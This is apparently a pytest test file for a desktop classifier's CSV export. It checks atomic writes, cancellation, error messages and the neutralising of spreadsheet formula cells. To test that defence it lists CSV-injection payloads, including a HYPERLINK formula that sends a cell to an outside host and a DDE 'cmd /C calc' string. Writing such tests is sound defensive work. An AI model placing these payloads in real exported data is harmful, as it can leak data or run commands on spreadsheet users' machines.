"""`predict DATA --out`: streamed in chunks, every cell neutralised, the destination replaced whole or not at all."""

import csv
import errno
import json
import os

import numpy as np
import pandas as pd
import pytest

from desktop_app.core.disk import atomic
from desktop_app.core.data.tables import read_table
from desktop_app.core.base.errors import DataError, StudioError
from desktop_app.core.predict.inference import predict_frame
from desktop_app.core.predict.predict_file import predict_file, predict_to, write_frame_csv

EVIL_LABEL = '=HYPERLINK("http://x?"&A2,"y")'


class FakeClassifier:
    """Deterministic probabilities from the text itself; optionally fails on the n-th call."""

    def __init__(self, labels=("neg", "pos"), fail_on_call=None):
        self.labels, self.fail_on_call, self.calls = tuple(labels), fail_on_call, 0

    def predict_proba(self, texts):
        self.calls += 1
        if self.calls == self.fail_on_call:
            raise RuntimeError("the model fell over")
        scores = np.array([[(len(t) * (j + 3) + sum(map(ord, t))) % 17 for j in range(len(self.labels))]
                           for t in texts], dtype=np.float32) / 4
        e = np.exp(scores - scores.max(axis=1, keepdims=True)) if len(texts) else scores
        return e / e.sum(axis=1, keepdims=True) if len(texts) else e


def _rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _write_inputs(folder, n=23):
    texts = [f"review {i}, with a comma" if i % 3 else f'multi\nline "quoted" {i}' for i in range(n)]
    frame = pd.DataFrame({"text": texts, "extra": [str(i) if i % 4 else "NA" for i in range(n)]})
    paths = {"csv": folder / "in.csv", "tsv": folder / "in.tsv", "jsonl": folder / "in.jsonl",
             "parquet": folder / "in.parquet", "xlsx": folder / "in.xlsx"}
    frame.to_csv(paths["csv"], index=False)
    frame.to_csv(paths["tsv"], sep="\t", index=False)
    paths["jsonl"].write_text("\n".join(json.dumps(r) for r in frame.to_dict("records")), encoding="utf-8")
    frame.to_parquet(paths["parquet"])
    frame.to_excel(paths["xlsx"], index=False)
    return paths


@pytest.mark.parametrize("fmt", ["csv", "tsv", "jsonl", "parquet", "xlsx"])
def test_output_equals_predict_frame(tmp_path, fmt):
    source = _write_inputs(tmp_path)[fmt]
    clf = FakeClassifier(("neg", "pos", "mixed"))
    written = predict_file(clf, source, tmp_path / "out.csv", chunk_rows=5)
    expected = predict_frame(clf, read_table(source).frame, "text")
    got = _rows(tmp_path / "out.csv")
    assert written.rows == len(expected) == len(got) - 1 == 23
    assert got[0] == list(expected.columns) == ["text", "extra", "predicted_label", "confidence",
                                                 "prob_neg", "prob_pos", "prob_mixed"]
    for row, (_, want) in zip(got[1:], expected.iterrows()):
        assert row[:3] == [want["text"], want["extra"], want["predicted_label"]]
        assert [float(x) for x in row[3:]] == [float(want[c]) for c in expected.columns[3:]]


def test_formula_cells_are_neutralised_and_plain_numbers_stay(tmp_path):
    attacks = ['=HYPERLINK("http://x?"&A2,"y")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tstart",
               " =1+1", "\uff1dSUM(1)", "-1.5", "+3", "plain text", ""]
    source = tmp_path / "in.jsonl"
    source.write_text("\n".join(json.dumps({"text": t, "@evil": t}) for t in attacks), encoding="utf-8")
    predict_file(FakeClassifier(), source, tmp_path / "out.csv", text_column="text")
    header, *rows = _rows(tmp_path / "out.csv")
    assert header[:2] == ["text", "'@evil"]
    want = ["'" + t for t in attacks[:7]] + ["-1.5", "+3", "plain text", ""]
    assert [r[0] for r in rows] == want and [r[1] for r in rows] == want


def test_a_formula_label_is_neutralised_in_the_header_and_the_predictions(tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("text\n" + "".join(f"text number {i}\n" for i in range(30)), encoding="utf-8")
    clf = FakeClassifier(("neg", EVIL_LABEL))
    predict_file(clf, source, tmp_path / "out.csv")
    header, *rows = _rows(tmp_path / "out.csv")
    assert not any(h.startswith(("=", "+", "-", "@")) for h in header)
    assert f"prob_{EVIL_LABEL}" in header
    labels = {r[1] for r in rows}
    assert "'" + EVIL_LABEL in labels and EVIL_LABEL not in labels


def test_the_terminal_stream_is_neutralised_too(tmp_path):
    import io

    source = tmp_path / "in.csv"
    source.write_text("text\n=1+1\nfine\n", encoding="utf-8")
    out = io.StringIO()
    assert predict_to(out, FakeClassifier(("neg", EVIL_LABEL)), source).rows == 2
    assert "\n=" not in out.getvalue() and "\n'=1+1," in out.getvalue()


def _precious(tmp_path):
    dest = tmp_path / "out.csv"
    dest.write_text("precious,work\n", encoding="utf-8")
    source = tmp_path / "in.csv"
    source.write_text("text\n" + "".join(f"row {i}\n" for i in range(20)), encoding="utf-8")
    return source, dest


def test_a_failure_mid_way_leaves_the_destination_untouched(tmp_path):
    source, dest = _precious(tmp_path)
    clf = FakeClassifier(fail_on_call=2)
    with pytest.raises(RuntimeError):
        predict_file(clf, source, dest, chunk_rows=5, overwrite=True)
    assert clf.calls == 2  # the first chunk was predicted (and written) before the failure
    assert dest.read_text(encoding="utf-8") == "precious,work\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.csv"]  # no .part left


def test_cancel_leaves_the_destination_untouched(tmp_path):
    source, dest = _precious(tmp_path)

    class Token:
        cancelled = False

    token = Token()
    done = []

    def progress(rows):
        done.append(rows)
        token.cancelled = True

    assert predict_file(FakeClassifier(), source, dest, chunk_rows=5, on_progress=progress, cancel=token,
                        overwrite=True) is None
    assert done == [5]
    assert dest.read_text(encoding="utf-8") == "precious,work\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.csv"]


def test_a_folder_as_destination_is_a_data_error(tmp_path):
    source, _ = _precious(tmp_path)
    with pytest.raises(DataError, match="is a folder"):
        predict_file(FakeClassifier(), source, tmp_path)


@pytest.mark.parametrize("where,err,words", [
    ("fsync", errno.ENOSPC, "the disk is full"),  # a full disk shows when the data reaches it
    ("mkstemp", errno.EACCES, "permission denied"),  # a read-only folder refuses the temporary file
])
def test_a_full_disk_or_a_read_only_folder_is_one_sentence(tmp_path, monkeypatch, where, err, words):
    source, dest = _precious(tmp_path)

    def fail(*args, **kwargs):
        raise OSError(err, os.strerror(err))

    monkeypatch.setattr(atomic.os if where == "fsync" else atomic.tempfile, where, fail)
    with pytest.raises(StudioError) as info:
        predict_file(FakeClassifier(), source, dest, overwrite=True)
    # a read-only folder is refused before any row is predicted (destinations.py), a full disk on the way
    assert words in str(info.value) and (where == "mkstemp" or info.value.message == f"“{dest}” could not be saved: "
                                         f"{words}. Nothing was left half-written.")
    assert dest.read_text(encoding="utf-8") == "precious,work\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.csv"]


def test_cli_out_folder_is_one_line_and_exit_2(tmp_path, capsys):
    from hostile import one_line_error

    from desktop_app.cli import main

    source, _ = _precious(tmp_path)
    assert main(["predict", str(tmp_path / "no-adapter"), str(source), "--out", str(tmp_path)]) == 2
    assert "is a folder" in one_line_error(capsys)


@pytest.fixture
def umask_022():
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.mark.skipif(os.name == "nt", reason="POSIX permission bits")
def test_new_files_follow_the_umask_and_existing_files_keep_their_mode(tmp_path, umask_022):
    source, dest = _precious(tmp_path)
    new = tmp_path / "new.csv"
    predict_file(FakeClassifier(), source, new)
    assert new.stat().st_mode & 0o777 == 0o644
    os.chmod(dest, 0o640)
    predict_file(FakeClassifier(), source, dest, overwrite=True)
    assert dest.stat().st_mode & 0o777 == 0o640
    saved = tmp_path / "saved.csv"
    write_frame_csv(pd.DataFrame({"text": ["@SUM(1)"], "n": [-1.5]}), saved)
    assert saved.stat().st_mode & 0o777 == 0o644
    assert _rows(saved) == [["text", "n"], ["'@SUM(1)", "-1.5"]]


def test_a_mixed_encoding_input_streams_right_and_warns(tmp_path):
    lines = ["text"] + [f"café number {i}" for i in range(5000)]  # the cp1252 line lies past the sniffed head
    source = tmp_path / "in.csv"
    source.write_bytes("\n".join(lines).encode("utf-8") + "\ncafé at the end\n".encode("cp1252"))
    written = predict_file(FakeClassifier(), source, tmp_path / "out.csv", chunk_rows=1000)
    texts = [r[0] for r in _rows(tmp_path / "out.csv")[1:]]
    assert texts[0] == "café number 0" and texts[-1] == "café at the end"
    assert written.rows == 5001 and "Line 5002" in " ".join(written.notes)


def test_the_input_file_is_never_its_own_destination(tmp_path):
    source, _ = _precious(tmp_path)
    before = source.read_bytes()
    with pytest.raises(DataError, match="is the file being classified"):
        predict_file(FakeClassifier(), source, source)
    assert source.read_bytes() == before
